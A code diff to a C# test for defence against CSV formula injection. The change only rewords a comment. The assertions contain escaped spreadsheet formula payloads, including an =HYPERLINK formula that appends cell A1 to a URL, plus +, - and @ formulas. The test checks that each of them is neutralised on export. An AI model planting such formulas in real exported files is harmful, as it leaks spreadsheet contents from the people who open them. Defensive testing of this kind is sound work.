@@ -39,7 +39,8 @@ public sealed class FieldValueBadInputTests : BadInputApiTest
         var edges = rows[^1];
         (edges.Values["First Name"], edges.Values["Last Name"], edges.Values["City"]).Should().Be(("=1", "=1", "=1"));
 
-        // Every export goes through CsvExport, which escapes such cells (SPEC 10, OWASP).
+        // Every CSV the product writes (results files, pre-filled templates) goes through CsvExport, which escapes such
+        // cells (SPEC 10, OWASP).
         var exported = Export(["First Name", "Last Name", "City"], rows.Select(r => new[] { r.Values["First Name"], r.Values["Last Name"], r.Values["City"] }));
         exported.Should().Contain("\"'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"x\"\")\"").And.Contain("'+1").And.Contain("'-2+3").And.Contain("'@SUM(A1)");
         exported.Should().NotMatchRegex("(^|[,\n])[=+@-]", "no exported cell may start with a formula character");
